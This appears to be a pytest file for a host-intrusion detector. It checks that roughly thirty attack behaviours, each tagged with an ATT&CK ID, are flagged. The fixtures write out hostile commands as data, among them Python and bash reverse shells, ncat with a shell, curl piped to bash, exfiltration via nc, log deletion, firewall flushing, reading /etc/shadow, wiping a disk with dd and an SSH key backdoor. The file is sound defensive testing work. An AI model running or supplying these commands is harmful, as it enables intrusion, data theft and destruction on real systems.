"""Each technique that leaves a process or a connection behind is found at once, under its name."""

import pytest
from tests.detect.scene import Change, Tables, after, passing, proc, sock, user

from vedette.core import Row
from vedette.detect.behaviour import BehaviourExpert
from vedette.detect.behaviour.hostile import MARKS

_DASH = "/usr/bin/dash"
_BASH = "/usr/bin/bash"
_PYTHON = "/usr/bin/python3.11"
_PEER = "198.51.100.66"


def run(*rows: Row, sockets: tuple[Row, ...] = ()) -> Change:
    def change(tables: Tables) -> None:
        tables["processes"].extend(rows)
        tables["process_open_sockets"].extend(sockets)

    return change


def stop(name: str) -> Change:
    def change(tables: Tables) -> None:
        tables["processes"] = [row for row in tables["processes"] if row["name"] != name]

    return change


def nothing(_: Tables) -> None:
    pass


def by_shell(command: str, uid: int = 0, parent: int = 31) -> Change:
    """A command that cron's shell runs."""
    return run(proc(900, parent, "sh", _DASH, f"/bin/sh -c {command}", uid))


_SWEEP = tuple(sock(900, f"10.0.3.{at}", 6379, 50_100 + at, "SYN_SENT") for at in range(20))

HOSTILE: dict[str, tuple[str, str, Change]] = {
    "an interactive shell of the web server on a socket": (
        "T1059.004",
        "process:/usr/bin/bash:33",
        run(proc(900, 51, "bash", _BASH, "bash -i", 33), sockets=(sock(900, _PEER, 4444),)),
    ),
    "an interactive shell of a locked account": (
        "T1059.004",
        "process:/usr/bin/bash:998",
        run(proc(900, 1, "bash", _BASH, "bash -i", 998)),
    ),
    "a shell under the application server": (
        "T1505.003",
        "process:/usr/bin/dash:33",
        run(proc(900, 51, "sh", _DASH, "sh -c id", 33)),
    ),
    "an unknown command under the web server": (
        "T1059.004",
        "process:/usr/bin/dash:33",
        run(proc(900, 41, "sh", _DASH, "sh -c ./x --y", 33)),
    ),
    "a reverse shell in one line of code": (
        "T1059.006",
        "process:/usr/bin/python3.11",
        run(
            proc(
                900,
                51,
                "python3",
                _PYTHON,
                "python3 -c import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',9));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
                33,
            ),
            sockets=(sock(900, _PEER, 9),),
        ),
    ),
    "a shell redirected to the network": (
        "T1059.004",
        "process:/usr/bin/dash:0",
        by_shell("bash -c 'bash -i >& /dev/tcp/198.51.100.66/443 0>&1'"),
    ),
    "netcat with a shell": (
        "T1059.004",
        "process:/usr/bin/ncat",
        run(proc(900, 1, "ncat", "/usr/bin/ncat", "ncat 198.51.100.66 443 -e /bin/bash", 33)),
    ),
    "a deleted program": (
        "T1070.004",
        "process:/var/tmp/updater",
        run(proc(900, 1, "updater", "/var/tmp/updater", "/var/tmp/updater", 33, on_disk=0)),
    ),
    "a program that never was a file": (
        "T1620",
        "process:/memfd:x",
        run(proc(900, 1, "x", "/memfd:x (deleted)", "x", 33, on_disk=0)),
    ),
    "a kernel thread with a file": (
        "T1036.004",
        "process:/dev/shm/.k/kworker",
        run(proc(900, 1, "kworker", "/dev/shm/.k/kworker", "[kworker/u4:2]")),
    ),
    "a bracketed name seen without privileges": (
        "T1036.004",
        "process:kworker/0:3",
        run(proc(900, 1, "kworker/0:3", "", "[kworker/0:3]", 33, on_disk=-1)),
    ),
    "a system service's name elsewhere": (
        "T1036.005",
        "process:/home/ana/bin/sshd",
        run(proc(900, 1, "sshd", "/home/ana/bin/sshd", "/usr/sbin/sshd", 1000)),
    ),
    "a program in shared memory": (
        "T1059",
        "process:/dev/shm/x",
        run(proc(900, 1, "x", "/dev/shm/x", "/dev/shm/x", 33)),
    ),
    "a daemon in a temp directory with a new peer": (
        "T1059",
        "process:/tmp/job",
        run(proc(900, 1, "job", "/tmp/job", "/tmp/job", 33), sockets=(sock(900, _PEER, 8443),)),
    ),
    "a hidden program in a home": (
        "T1564.001",
        "process:/home/ana/.x/agent",
        run(proc(900, 1, "agent", "/home/ana/.x/agent", "/home/ana/.x/agent", 1000)),
    ),
    "a hidden script by its relative name": (
        "T1564.001",
        "process:/home/ana/.x/run.py",
        run(
            proc(900, 1, "python3", _PYTHON, "python3 ./run.py", 1000, cwd="/home/ana/.x"),
            sockets=(sock(900, _PEER, 8443),),
        ),
    ),
    "a miner by its pool": (
        "T1496",
        "process:/usr/local/bin/sysd",
        run(
            proc(
                900, 1, "sysd", "/usr/local/bin/sysd", "sysd -o stratum+tcp://pool.example:3333", 33
            )
        ),
    ),
    "a sweep by a known interpreter": (
        "T1046",
        "process:/opt/nm.py",
        run(proc(900, 1, "python3", _PYTHON, "python3 /opt/nm.py", 33), sockets=_SWEEP),
    ),
    "a scanner": (
        "T1046",
        "process:/usr/bin/nmap",
        run(proc(900, 1, "nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24")),
    ),
    "a capture in the background": (
        "T1040",
        "process:/usr/bin/tcpdump",
        run(proc(900, 1, "tcpdump", "/usr/bin/tcpdump", "tcpdump -i any -w /var/x.pcap")),
    ),
    "a reverse tunnel": (
        "T1572",
        "process:/usr/bin/ssh",
        run(
            proc(900, 1, "ssh", "/usr/bin/ssh", "ssh -fN -R 2222:localhost:22 x@198.51.100.66"),
            sockets=(sock(900, _PEER, 22),),
        ),
    ),
    "a download piped to a shell": (
        "T1105",
        "process:/usr/bin/dash:0",
        by_shell("curl -s http://198.51.100.66/x | bash"),
    ),
    "decoded code": ("T1140", "process:/usr/bin/dash:0", by_shell("echo aWQK | base64 -d | sh")),
    "logs removed": (
        "T1070.002",
        "process:/usr/bin/dash:0",
        by_shell("rm -f /var/log/auth.log /var/log/wtmp"),
    ),
    "logging switched off": (
        "T1562.001",
        "process:/usr/bin/dash:0",
        by_shell("systemctl stop rsyslog"),
    ),
    "a firewall emptied": ("T1562.004", "process:/usr/bin/dash:0", by_shell("iptables -F")),
    "passwords read": (
        "T1003.008",
        "process:/usr/bin/cat",
        run(proc(900, 1, "cat", "/usr/bin/cat", "cat /etc/shadow")),
    ),
    "a disk overwritten": (
        "T1561.001",
        "process:/usr/bin/dd",
        run(proc(900, 1, "dd", "/usr/bin/dd", "dd if=/dev/zero of=/dev/sda")),
    ),
    "data piped away": (
        "T1048",
        "process:/usr/bin/dash:33",
        by_shell("tar cz /srv | nc 198.51.100.66 9", 33),
    ),
    "a key written by a command": (
        "T1098.004",
        "process:/usr/bin/dash:0",
        by_shell("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"),
    ),
    "a container broken out of": (
        "T1611",
        "process:/usr/bin/nsenter",
        run(proc(900, 1, "nsenter", "/usr/bin/nsenter", "nsenter -t 1 -m -u -n sh")),
    ),
    "a shell with another's rights": (
        "T1548.001",
        "process:/var/tmp/.c/sh:1000",
        run(proc(900, 72, "sh", "/var/tmp/.c/sh", "sh -p", 1000, euid=0)),
    ),
    "children that nobody waits for": (
        "T1499",
        "crowd:worker",
        run(
            *(
                proc(2_000 + at, 33, "worker", "", "", 998, on_disk=-1, state="Z")
                for at in range(80)
            )
        ),
    ),
    "a runaway loop": (
        "T1499",
        "crowd:sleep",
        run(*(proc(2_000 + at, 1, "sleep", "/usr/bin/sleep", "sleep 7", 998) for at in range(60))),
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_process_is_found_at_once_and_ends_with_it(name: str) -> None:
    attack, subject, change = HOSTILE[name]
    keep, undo = passing(change)
    told = after(BehaviourExpert, keep, nothing, nothing, undo)
    loud = [[case for case in cases if case.nats > 0] for cases in told]
    assert loud[0], [(case.subject, case.nats, case.text) for case in told[0]]
    assert (loud[0][0].subject, loud[0][0].attack) == (subject, attack)
    assert [len(cases) for cases in loud] == [1, 1, 1, 0]
    assert {case.since for cases in loud for case in cases} == {
        loud[0][0].since
    } or "crowd" in subject


def test_a_service_that_talks_to_a_new_port_is_told() -> None:
    change = run(sockets=(sock(33, _PEER, 4444),))
    (cases,) = after(BehaviourExpert, change)
    assert (cases[0].attack, cases[0].subject) == ("T1571", "process:/opt/worker/bin/worker")
    assert cases[0].nats > 0


def test_a_person_working_as_a_service_account_is_no_intruder() -> None:
    as_worker = run(
        proc(900, 72, "sudo", "/usr/bin/sudo", "sudo -u worker -s", 0),
        proc(901, 900, "bash", _BASH, "/bin/bash", 998),
    )
    (cases,) = after(BehaviourExpert, as_worker)
    assert not [case for case in cases if case.nats > 0]


@pytest.mark.parametrize(
    ("name", "attack", "subject"),
    [
        ("rsyslogd", "T1562.001", "service:rsyslogd"),
        ("worker", "T1489", "service:worker"),
        ("cron", "T1489", "service:cron"),
    ],
)
def test_a_service_that_always_ran_is_missed_after_three_snapshots(
    name: str, attack: str, subject: str
) -> None:
    told = after(BehaviourExpert, stop(name), nothing, nothing, nothing)
    loud = [[(case.attack, case.subject) for case in cases if case.nats > 0] for cases in told]
    assert loud == [[], [], [(attack, subject)], [(attack, subject)]]


def test_a_service_seen_for_less_than_two_hours_is_not_missed() -> None:
    told = after(BehaviourExpert, *([stop("worker")] + [nothing] * 5), watched=90)
    assert not [case for cases in told for case in cases if case.nats > 0]


def test_the_account_database_says_who_is_locked() -> None:
    def unlock(tables: Tables) -> None:
        tables["users"] = [user("worker", 998, "/bin/bash")]

    shell = run(proc(900, 1, "bash", _BASH, "bash", 998))
    told = after(BehaviourExpert, shell, before=unlock)
    texts = [case.text for cases in told for case in cases]
    assert len(texts) == 1
    assert not texts[0].startswith(MARKS["nologin"].text.split(":")[0])
